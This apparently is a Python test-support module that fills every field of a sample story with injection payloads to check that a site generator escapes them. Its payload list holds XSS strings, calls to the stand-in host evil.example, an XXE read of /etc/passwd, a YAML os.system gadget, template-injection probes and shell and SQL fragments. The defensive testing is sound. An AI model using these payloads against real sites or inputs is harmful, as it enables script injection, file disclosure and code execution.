"""A story that has every field there is, and payloads to put into them: for `test_injection.py`.

Which fields there are is read from the model, so that a new one is covered or missed by name.
"""

from __future__ import annotations

import functools
import pickle
import re
import types
import typing
from collections.abc import Iterator
from dataclasses import dataclass

import yaml

from explainer.reading.document import Route
from explainer.schema import field_types, text_types
from explainer.schema.files import FILES
from explainer.schema.record import Part, Record
from explainer.schema.records import Fact
from explainer.schema.settings import Settings
from support.mutations import dump
from support.project import RICH_STORY, SECOND_STORY

LANGUAGES = ("fr", "de", "en")
X = dict.fromkeys(LANGUAGES, "x")

# --- payloads ------------------------------------------------------------------------------------

RUN = "__pwned()"  # what a test page has in its window: it counts
EVIL = "//evil.example/x"  # what must never be asked
GROUPS: dict[str, list[str]] = {
    "elements": [
        f"<script>{RUN}</script>",
        f"<script src={EVIL}.js></script>",
        f"<img src=x onerror={RUN}>",
        f"<img src={EVIL}.png>",
        f"<svg onload={RUN}>",
        f"<svg><script>{RUN}</script></svg>",
        f"<iframe src=javascript:parent.{RUN}></iframe>",
        f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        f"<style>@import url({EVIL}.css)</style>",
        f"<link rel=stylesheet href={EVIL}.css>",
        f"<object data={EVIL}></object>",
        f"<embed src={EVIL}>",
        f"<base href={EVIL}>",
        f"<meta http-equiv=refresh content=0;url={EVIL}>",
        f"<form action={EVIL}><button autofocus>",
        f"<input autofocus onfocus={RUN}>",
        f"<details open ontoggle={RUN}>",
        f"<video src={EVIL} onerror={RUN}>",
        f"<a href=javascript:{RUN}>a</a>",
        f"<math><a xlink:href=javascript:{RUN}>b</a></math>",
        "<template><noscript><plaintext>",
    ],
    "ends": [
        f"</script><script>{RUN}</script>",
        f"</title><script>{RUN}</script>",
        f"</style></textarea></noscript></template><img src=x onerror={RUN}>",
        f"--><script>{RUN}</script><!--",
        f"]]><script>{RUN}</script><![CDATA[",
        "</q></a></cite></p></li></td></tr></table></section></article></main></body></html>",
        f"</text></desc></svg><svg onload={RUN}>",
        "<!doctype html>",
        "<?xml version='1.0'?>",
        "<!ENTITY x SYSTEM 'file:///etc/passwd'> &x;",
    ],
    "attributes": [
        f'" onmouseover={RUN} autofocus onfocus={RUN} tabindex=0 x="',
        f"' onmouseover={RUN} onclick='{RUN}' style='background:url({EVIL})'",
        f"` onload={RUN} ` / onerror={RUN}",
        f'"><script>{RUN}</script>',
        f"'><img src=x onerror={RUN}>",
        '">',
        'class=x id=y hidden data-search-exclude aria-hidden="true"',
        f"={RUN}",
    ],
    "codes": [
        f"&lt;script&gt;{RUN}&lt;/script&gt;",
        f"&#60;img src=x onerror={RUN}&#62;",
        f"&#x3c;svg/onload={RUN}&#x3e;",
        "&amp;lt; &quot; &apos; &nbsp; &NewLine; &colon; &#x202e; &#0;",
        f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
        f"%3Cscript%3E{RUN}%3C/script%3E",
        f"\\x3cimg src=x onerror={RUN}\\x3e",
        "\\ \\\\ \\n \\' \\0",
        f"＜script＞{RUN}＜/script＞",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    ],
    "Markdown": [
        "**a** __b__ *c* _d_ ~~e~~ ==f== ^^g^^ `h` ``i``",
        f"[a](javascript:{RUN})",
        f"[a]({EVIL} 'b')",
        f"![a]({EVIL}.png)",
        "[a][1] [1] [^1] [TOC] [[a]]",
        "<https://evil.example/auto> https://evil.example/auto www.evil.example a@evil.example",
        f"{{: onclick={RUN} .a #b }} {{#pwned}} {{.pwned onclick={RUN}}}",
        "*[HTML]: a",
        "\\*a\\* a<br>b",
        "((a)) {++a++} {--b--} {>>c<<} ++d++",
        ":smile: :material-account: --8<-- 'LICENSE' $$a$$ \\(a\\)",
        "| a | b | --- |",
        "^a^ ~b~ (c) -- --- ...",
        "&copy; a  ",
        "<div markdown=1>*a*</div>",
    ],
    "beginnings": [
        "# a",
        "## a {#b}",
        "- a",
        "* a",
        "+ a",
        "1. a",
        "> a",
        "| a | b |",
        "---",
        "***",
        "___",
        "```python",
        "~~~",
        "[1]: https://evil.example 'a'",
        "[^1]: a",
        "*[a]: b",
        ": a",
        "!!! note",
        "??? note",
        "::: a",
        "/// a",
        '=== "a"',
        "--8<-- 'LICENSE'",
        "title: a",
        "%YAML 1.1",
        "!!python/object/apply:os.system [id]",
        "&a b",
        "*a",
        "? a",
        "@a",
        "`a`",
        "{a: b}",
        "[a, b]",
        "<!-- a",
        "=",
        "=1+1",
        "//evil.example/x",
        "\\begin",
    ],
    "Jinja and others": [
        "{{ 7 * 7 }} {% raw %} {% include 'main.html' %} {# a #} {%# b #%} {{ config }}",
        "{{ self.__init__.__globals__ }} {{ ''.__class__.__mro__ }}",
        "${7*7} #{7*7} <%= 7*7 %> [[ 7*7 ]] %(a)s %s %d {0} { } {}",
        "\\1 \\g<0> $1 $& $` $' $$",
        f"{{{{constructor.constructor('{RUN}')()}}}}",
        f"${{{RUN}}} `${{{RUN}}}`",
        "@import '//evil.example'; a{} :root{} /* */ // \\",
        "<?php echo 1 ?> ; DROP TABLE a; -- $(id) `id` | id && id",
        "\\N{BULLET} \\u0041 \\U00000041 %41 &#65;",
    ],
    "addresses": [
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        f"vbscript:{RUN}",
        "file:///etc/passwd",
        "//evil.example/x",
        "https://evil.example/x",
        "../../../etc/passwd",
        "#:~:text=a,b",
        "?a=b&c=d",
        "#a",
        "mailto:a@evil.example",
        "blob:a",
        "view-source:a",
        "http:// https://[::1 http://%",
    ],
    "letters": [
        "שלום עולם مرحبا",
        "Z̸͎a̷l̵g̶o̴",
        "👩\u200d💻 🏳️\u200d🌈 👍🏽",
        "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
        "İıſßK",
        "ﬁ ﷺ",
        "日本語 한국어",
        "\u00a0\u202f\u2009\u3000a",
        "a\u0301 á",
        "‹›«»“”„‟‘’",
        "–—‐‑−",
        "\ufffd",
        "ＡＢＣ",
    ],
}
HARMLESS = ["Harmless words"]
BREAKING_OUT = [GROUPS["attributes"][index] for index in (0, 3, 4, 5)]


# --- a story with every field ----------------------------------------------------------------------


def story() -> dict[str, object]:
    """The second story's files as data, with what it lacks of the model put in: a copy to change."""
    return pickle.loads(_pickled_story())


@functools.cache
def _pickled_story() -> bytes:
    return pickle.dumps(_whole_story())


def _whole_story() -> dict[str, object]:
    content = SECOND_STORY / "content"
    files = {
        path.relative_to(content).as_posix(): yaml.load(path.read_text("utf-8"), yaml.CBaseLoader)
        for path in content.rglob("*.yml")
    }
    passage = {"paragraph": "1", "from": "x", "to": "x"}
    files["sources.yml"]["journal"] |= {
        "author": "x",
        "note": X,
        "short": X,
        "accessed": "2024-02-01",
        "archived": "https://archive.example/journal",
    }
    files["sources.yml"]["journal"]["paragraphs"]["3"] = {"summary": X, "excused": X}
    files["sources.yml"]["radio-interview"] |= {"kind": "post", "author": "x"}
    files["facts/tramway.yml"]["tramway-sold"] |= {"was": ["sold"], "reviewed": "0000"}
    files["facts/tramway.yml"]["ridership-2023"]["cites"] = [
        {"source": "annual-report", **passage},
        {"source": "radio-interview"},
    ]
    files["quotes.yml"]["ours-again"]["cites"] = [{"source": "radio-interview", **passage}]
    cited = [{"source": "annual-report", **passage}]
    files["series.yml"] = {
        "fares": {
            "title": X,
            "unit": X,
            "note": X,
            "form": "bars",
            "lines": {
                "fare": {
                    "name": X,
                    "estimate": X,
                    "cites": cited,
                    "points": [{"category": X, "value": "2", "note": X}],
                },
                "ticket": {
                    "name": X,
                    "points": [{"category": X, "value": "3", "cites": cited}],
                },
            },
        }
    }
    files["quotes.yml"]["breaking-out"] = {
        "words": "x",
        "language": "fr",
        "by": "brammerling",
        "date": "2022",
        "cites": [{"source": "radio-interview"}],
    }
    files["people.yml"]["brammerling"]["description"]["reviewed"] = "0000"
    files["people.yml"]["somebody"] = {"name": X, "aliases": ["x"], "description": "tramway-sold"}
    files["glossary.yml"]["something"] = {"term": X, "aliases": ["x"], "definition": X}
    files["organizations.yml"]["lignelys"]["aliases"] = ["x"]
    files["roles.yml"]["brammerling-mayor-role"] |= {
        "from": "2021-03-05",
        "agreed": "2021-03-02",
        "interim": "true",
    }
    files["updates.yml"]["mended"] = {
        "date": "2024-02-09",
        "kind": "correction",
        "text": X,
        "facts": ["tramway-sold"],
    }
    files["story.yml"]["notice"]["reviewed"] = "0000"
    for language in files["story.yml"]["languages"].values():
        language["foreign"] = {"it": ["x"]}
    files["products.yml"] = {
        "tram": {
            "name": X,
            "aliases": ["x"],
            "description": {
                "text": X,
                "facts": ["tramway-sold"],
                "reviewed": "0000",
                "paragraph": "true",
            },
            "maker": "lignelys",
            "chip": {
                "for": X,
                "announced": "2009",
                "state": _sentence(),
                "steps": [{"fact": "tramway-sold", "label": X}],
                "facts": ["tramway-sold"],
            },
        }
    }
    grid = {
        "caption": X,
        "columns": {"2009": X, "2022-06": X},
        "rows": [{"label": X, "cells": {"2009": {**_sentence(), "label": X}}}],
    }
    section = {
        "heading": X,
        "prose": [_sentence(), "ridership-2023"],
        "then-and-now": [
            {"then": _sentence(), "now": _sentence()},
            {"then": "tramway-sold", "now": "tramway-bought-back"},
        ],
        "grid": grid,
    }
    page = {
        "title": X,
        "label": X,
        "description": X,
        "lead": [_sentence()],
        "sections": {"all-of-it": section},
    }
    files["pages.yml"] |= {"chips": {**page, "entities": ["product"]}, "everything": page}
    return yaml.load(
        yaml.dump(files, Dumper=_Plain), yaml.CBaseLoader
    )  # nothing shared between two places


class _Plain(yaml.SafeDumper):
    def ignore_aliases(self, data: object) -> bool:
        return True


def _sentence() -> dict[str, object]:
    return {"facts": ["ridership-2023"], "text": X, "paragraph": "true", "reviewed": "0000"}


EVERYTHING = """# {{ words(page.title) }} {#everything}

{{ lead() }}

{% for id, section in sections() %}
## {{ heading(section.heading) }} {#{{ id }}}

{{ prose(section) }}
{{ then_and_now(section) }}
{{ grid(section) }}

{% endfor %}
{{ tenure("ostrevange-mayor") }}

{{ roles() }}

{{ fact("tramway-sold") }}

{{ facts(about="lignelys") }}

{{ latest_update() }}

{{ series("fares") }}

{{ ways_on("people", "sources") }}

<a href="{{ link("sources") }}">{{ t("sources") }}</a> {{ date(story.checked) }} {{ words(story.description) }}

{{ notes() }}
"""
TEMPLATES = {
    "everything.md": EVERYTHING,
    "chips.md": (RICH_STORY / "docs" / "chips.md").read_text("utf-8"),
}


# --- its fields ------------------------------------------------------------------------------------

TEXT, ADDRESS, TYPED, KEY = "text", "address", "typed", "key"
PLAIN = (
    text_types.SingleLine,
    text_types.Text,
    text_types.Name,
    text_types.Prose,
    text_types.Aliases,
    text_types.Translations,
)


@dataclass
class Place:
    """A value in a story's data: `holder[key]`, in a `file` at a `route`; `field` is its name in the model, as in `fact.cites.from`."""

    field: str
    kind: str
    file: str
    route: Route
    holder: dict | list
    key: object
    language: str | None = None

    def put(self, value: str) -> None:
        if self.kind == KEY:
            items = [
                (value if key == self.key else key, inner) for key, inner in self.holder.items()
            ]
            self.holder.clear()
            self.holder.update(items)
        else:
            self.holder[self.key] = value


def places(files: dict[str, object]) -> Iterator[Place]:
    """Every value of a story, by the types of the model. A text given once is given in every language from here on."""
    for name, data in files.items():
        kind = (
            Settings
            if name == "story.yml"
            else Fact
            if name.startswith("facts/")
            else FILES[name][1]
        )
        if kind is Settings:
            yield from _in_part(kind, data, "story", name, ())
            continue
        for id in data:
            yield Place(f"{kind.kind_name}.id", KEY, name, (id,), data, id)
            if kind.implicit_field:
                yield from _at(_hints(kind)["text"], data, id, kind.kind_name, name, ())
            else:
                yield from _in_part(kind, data[id], kind.kind_name, name, (id,))


def _in_part(part: type[Part], data: dict, field: str, file: str, route: Route) -> Iterator[Place]:
    for key, hint in _hints(part).items():
        if key in data:
            yield from _at(hint, data, key, f"{field}.{key}", file, route)


def _at(
    hint: object, holder: dict | list, key: object, field: str, file: str, route: Route
) -> Iterator[Place]:
    hint, value, here = _bare(hint), holder[key], (*route, key)
    if hint in (field_types.Url, field_types.Address):
        yield Place(field, ADDRESS, file, here, holder, key)
    elif hint == text_types.SingleLine:
        yield Place(field, TEXT, file, here, holder, key)
    elif hint in (text_types.Text, text_types.Name, text_types.Prose, text_types.Translations):
        if isinstance(value, str):
            holder[key] = dict.fromkeys(LANGUAGES, value)
        for language in holder[key]:
            yield Place(field, TEXT, file, (*here, language), holder[key], language, language)
    elif hint == text_types.Aliases:
        if isinstance(value, list):
            holder[key] = {language: list(value) for language in LANGUAGES}
        for language, names in holder[key].items():
            yield Place(field, TEXT, file, (*here, language, 0), names, 0, language)
    elif _is_part(_strip(hint)) and isinstance(value, dict):
        yield from _in_part(_strip(hint), value, field, file, here)
    elif typing.get_origin(_strip(hint)) is list:
        for index in range(len(value)):
            yield from _at(typing.get_args(_strip(hint))[0], value, index, field, file, here)
    elif typing.get_origin(_strip(hint)) is dict:
        for inner in list(value):
            yield Place(f"{field} (key)", KEY, file, (*here, inner), value, inner)
            yield from _at(typing.get_args(_strip(hint))[1], value, inner, field, file, here)
    else:
        yield Place(field, TYPED, file, here, holder, key)


def fields() -> set[str]:
    """The name of every field of the model that holds text or an address."""
    kinds: list[type[Record]] = [Settings, Fact, *(kind for _, kind in FILES.values())]
    return {
        name
        for kind in kinds
        for name in ([kind.kind_name] if kind.implicit_field else _fields_of(kind, kind.kind_name))
    }


def _fields_of(part: type[Part], field: str) -> Iterator[str]:
    for key, hint in _hints(part).items():
        hint, name = _bare(hint), f"{field}.{key}"
        while not (
            hint in (*PLAIN, field_types.Url, field_types.Address) or _is_part(_strip(hint))
        ) and typing.get_origin(_strip(hint)) in (list, dict):
            hint = typing.get_args(_strip(hint))[-1]
        if hint in (*PLAIN, field_types.Url, field_types.Address):
            yield name
        elif _is_part(_strip(hint)):
            yield from _fields_of(_strip(hint), name)


@functools.cache
def _hints(part: type[Part]) -> dict[str, object]:
    """A part's fields by their keys in YAML, each with its type, annotations included."""
    hints = typing.get_type_hints(part, include_extras=True)
    return {field.alias or name: hints[name] for name, field in part.model_fields.items()}


def _bare(hint: object) -> object:
    """A type without `| None`."""
    if typing.get_origin(hint) in (types.UnionType, typing.Union):
        return next(one for one in typing.get_args(hint) if one is not type(None))
    return hint


def _strip(hint: object) -> object:
    return _strip(typing.get_args(hint)[0]) if typing.get_origin(hint) is typing.Annotated else hint


def _is_part(hint: object) -> bool:
    return isinstance(hint, type) and issubclass(hint, Part)


# --- payloads in fields ----------------------------------------------------------------------------


def marker(number: int) -> str:
    """A word of its own for a place, of letters alone: it is no figure, and no other holds it."""
    return "Zq" + "".join("abcdefghij"[int(digit)] for digit in f"{number:04}") + "z"


def value(number: int, *groups: str) -> str:
    """What is put into a place: the texts of payload groups, after the place's marker; of the beginnings, one comes before it."""
    texts = [text for group in groups for text in GROUPS.get(group, HARMLESS)]
    first = (
        [GROUPS["beginnings"][number % len(GROUPS["beginnings"])]] if "beginnings" in groups else []
    )
    return " ".join([*first, marker(number), *texts])


def inject(files: dict[str, object], groups: dict[str, str]) -> dict[str, tuple[Place, str]]:
    """Put into every text of a story a payload group, by language; into one that is of no language, all of them.

    Returns what stands where, by marker.
    """
    put: dict[str, tuple[Place, str]] = {}
    for number, place in enumerate(place for place in list(places(files)) if place.kind == TEXT):
        text = value(
            number,
            *([groups[place.language]] if place.language else dict.fromkeys(groups.values())),
        )
        after = ""
        if (
            place.field == "phrase"
        ):  # {word} is the place of a value: those that are there stay, and others are refused
            after = "".join(f" {name}" for name in re.findall(r"\{\w+\}", place.holder[place.key]))
            text = re.sub(r"\{(\w+)\}", r"{ \1 }", text)
        if place.field == "story.languages.foreign":  # found in texts from word to word
            text = " ".join([marker(number), *GROUPS.get(groups[place.route[1]], HARMLESS), "z"])
        if place.field == "story.languages.quotes" or place.route[:1] == ("breaking-out",):
            text = f"{marker(number)} {' '.join(BREAKING_OUT if any(groups.values()) else HARMLESS)}"  # short: they come again in every text
        if place.field in (*TELLING, "story.languages.foreign") or place.route[:2] in (
            ("brammerling", "name"),
            ("municipal-operator", "term"),
        ):
            text = re.sub(
                '["“”„«»]', "", text
            )  # there, what is in quotation marks is a quote: see below
        put[marker(number)] = (place, text)
        place.put(text + after)
    _meet(files)
    return put


TELLING = {
    "fact.text",
    "person.description.text",
    "organization.description.text",
    "product.description.text",
    "product.chip.steps.label",
    "source note.reading",
    "update.text",
    "picture.alt",
    "series.note",
    "series.title",
    "picture.caption",
    "page.lead.text",
    "page.sections.prose.text",
    "page.sections.then-and-now.then.text",
    "page.sections.then-and-now.now.text",
    "page.sections.grid.rows.cells.text",
    "page.sections.grid.rows.cells.label",
}


def _meet(files: dict[str, object]) -> None:
    """Let a fact name an entity, one a term, one a foreign word, and every other text that tells facts quote: links and the like hold payloads too."""
    words = files["quotes.yml"]["breaking-out"]["words"]
    named = {
        "tramway-sold": files["people.yml"]["brammerling"]["name"],
        "brammerling-is-mayor": files["glossary.yml"]["municipal-operator"]["term"],
        "buy-back-announced": {
            language: setting["foreign"]["it"][0]
            for language, setting in files["story.yml"]["languages"].items()
        },
    }
    for place in list(places(files)):
        if place.field in TELLING:
            opening, closing = files["story.yml"]["languages"][place.language]["quotes"]
            more = (
                named[place.route[0]][place.language]
                if place.route[0] in named
                else f"{opening}{words}{closing}"
            )
            place.put(f"{place.holder[place.key]} {more}")


def lay_out(files: dict[str, object], content) -> None:
    """Write a story's data as its files."""
    for name, data in files.items():
        path = content / name
        path.parent.mkdir(parents=True, exist_ok=True)
        text = dump(data)
        # The faster writer has codes for letters beyond 16 bits, and an editor types them.
        path.write_bytes(
            text
            if b"\\U" not in text
            else yaml.dump(
                data, Dumper=_Plain, allow_unicode=True, sort_keys=False, width=10_000
            ).encode()
        )
